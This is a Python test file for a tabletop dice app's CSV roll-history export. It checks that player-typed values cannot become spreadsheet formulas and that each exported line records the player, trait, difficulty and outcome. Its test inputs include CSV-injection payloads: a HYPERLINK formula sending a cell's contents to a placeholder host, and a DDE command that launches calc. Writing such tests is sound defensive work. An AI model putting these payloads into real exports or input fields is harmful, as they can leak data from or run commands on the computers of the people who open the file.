"""The CSV export read back as a spreadsheet would (issue 44): no cell a player typed becomes a
formula, and each roll's line says who rolled, the trait, what it had to meet and what it came to."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from rolls.history.export import CSV_HEADER, cell, difficulty
from rolls.models import Roll
from tests import factories
from tests.factories import Script, Table, logged_in

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = ('=HYPERLINK("http://x.example/?"&A1,"Olle")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def cells(client: Client, table: Table) -> list[list[str]]:
    response = client.get(reverse("rolls:export", args=[table.campaign.pk]), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))


def test_no_cell_of_either_csv_is_a_formula(table: Table, dice: Script) -> None:
    dice(6, 2, 3, then=1)
    for name in HOSTILE_NAMES:
        hero = factories.character(table.campaign, table.player, name=name)
        url = reverse("rolls:roll-create", args=[table.campaign.pk, hero.pk])
        response = logged_in(table.player).post(url, {"trait": "Body", "need": 1, "intent": "=1+1"})
        assert response.status_code in (200, 302)

    for who in (table.gm, table.player):
        rows = cells(logged_in(who), table)
        formulas = [value for row in rows for value in row if value.startswith(FORMULA)]
        assert formulas == []
        names = {row[3] for row in rows[1:]}
        # Each name is there, as text a spreadsheet shows as typed.
        assert {f"'{name}" for name in HOSTILE_NAMES} <= names


def test_a_cell_starting_with_a_tab_or_a_return_is_neutralised_and_numbers_are_not() -> None:
    assert [cell(v) for v in ("\tx", "\rx", "plain", -2, 3)] == ["'\tx", "'\rx", "plain", -2, 3]


def test_each_roll_line_names_the_player_trait_difficulty_and_outcome(table: Table, dice: Script) -> None:
    dice(6, 6, 3, then=1)
    url = reverse("rolls:roll-create", args=[table.campaign.pk, table.character.pk])
    assert logged_in(table.player).post(url, {"trait": "Body", "need": 2}).status_code in (200, 302)
    roll = Roll.objects.get()

    rows = cells(logged_in(table.gm), table)

    assert tuple(rows[0]) == CSV_HEADER
    line = dict(zip(rows[0], next(r for r in rows[1:] if r[4] == str(roll.pk)), strict=True))
    assert (line["player"], line["trait"], line["difficulty"], line["outcome"]) == (
        "Player",
        roll.trait,
        "2 sixes",
        roll.outcome,
    )
    assert roll.trait and roll.outcome == "success"


def test_each_system_says_what_its_roll_had_to_meet() -> None:
    assert difficulty({"dn": 8}) == "DN 8"
    assert difficulty({"bar_size": 3, "bar_face": 4, "opposed": False}) == "Bar 3x4"
    assert difficulty({"bar_size": 3, "bar_face": 4, "opposed": True}) == ""
    assert difficulty({"difficulty": 4}) == "Difficulty 4"
    assert difficulty({"need": 1}) == "1 six"
    assert difficulty({"level": "critical"}) == "Critical"
